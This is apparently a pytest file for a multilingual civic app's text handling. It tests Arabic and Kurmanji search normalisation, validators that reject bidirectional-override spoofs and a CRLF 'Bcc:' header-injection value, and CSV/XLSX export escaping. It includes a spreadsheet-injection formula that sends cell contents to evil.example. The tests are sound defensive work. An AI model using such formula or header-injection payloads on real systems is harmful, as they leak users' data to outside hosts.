"""The search normalisation: every spelling variant the coalition's members type must meet."""

import io

import pytest

from core.text import normalise, search_terms


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("أمل", "امل"),  # hamza above
        ("إنصاف", "انصاف"),  # hamza below
        ("آمال", "امال"),  # madda
        ("ٱلسلام", "السلام"),  # wasla
        ("مستشفى", "مستشفي"),  # alef maqsura = yaa
        ("منظمة", "منظمه"),  # taa marbuta = haa
        ("منظـــمة", "منظمه"),  # tatweel
        ("مُنَظَّمَةٌ", "منظمه"),  # harakat
        ("٢٠١٨", "2018"),  # Arabic-Indic digits
        ("۲۰۱۸", "2018"),  # Eastern Arabic-Indic digits
        ("Sivîl", "sivil"),  # Kurmanji accents
        ("Rêxistinên Şêwirmendî Çand û", "rexistinen sewirmendi cand u"),
        ("CIVAKA", "civaka"),
    ],
)
def test_variants_meet(typed, stored):
    assert normalise(typed) == normalise(stored) == stored


def test_punctuation_and_spaces_collapse():
    assert normalise("  Deir-ez-Zor,  «الرقة»_2 ") == "deir ez zor الرقه 2"


def test_empty_and_none():
    assert normalise(None) == ""
    assert normalise("   ") == ""


def test_search_terms_are_distinct_and_bounded():
    assert search_terms("منظمة منظمه   Sivil sivîl") == ["منظمه", "sivil"]
    assert len(search_terms(" ".join(f"w{i}" for i in range(50)))) == 8


def test_names_refuse_invisible_characters_and_texts_refuse_direction_overrides():
    import pytest
    from django.core.exceptions import ValidationError

    from core.validators import invisible_characters, no_invisible_characters, one_line

    spoof = "\u202e" + "tnempoleveD rof noitazinagrO anrieD"
    for value in (spoof, "Deirna\u200f", "Deirna\r\nBcc: x@example.org", "A\u2066B\u2069", "tab\there"):
        with pytest.raises(ValidationError):
            one_line(value)
    one_line("منظمة ديرنا للتنمية")  # plain Arabic passes
    one_line("Rêxistina Jinên Amûdê")  # Kurmanji with its letters passes
    one_line("ܐܪܡܝܐ ܕܝܠܢ")  # Syriac passes
    # A pasted Arabic paragraph keeps its line breaks and right-to-left marks, never an override.
    no_invisible_characters("السطر الأول\u200f\nالسطر الثاني", multiline=True)
    with pytest.raises(ValidationError):
        no_invisible_characters("text \u202e reversed", multiline=True)
    assert invisible_characters("a\u0000b", multiline=True) == ["\u0000"]


def test_exported_cells_never_run_as_formulas_and_read_back_as_typed():
    import openpyxl

    from core.exports import csv_cell, from_csv_cell, xlsx_cells

    attack = '=HYPERLINK("http://evil.example/?leak="&A3,"Click")'
    for value in (attack, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(value).startswith("'")
        assert from_csv_cell(csv_cell(value)) == value
    assert csv_cell("Deirna") == "Deirna" and csv_cell(12) == 12 and csv_cell(-5) == -5
    assert from_csv_cell("'quoted by a person") == "'quoted by a person"
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(xlsx_cells(sheet, [attack, 3]))
    out = io.BytesIO()
    book.save(out)
    cells = openpyxl.load_workbook(out).active
    assert cells["A1"].data_type == "s" and cells["A1"].value == attack and cells["B1"].value == 3
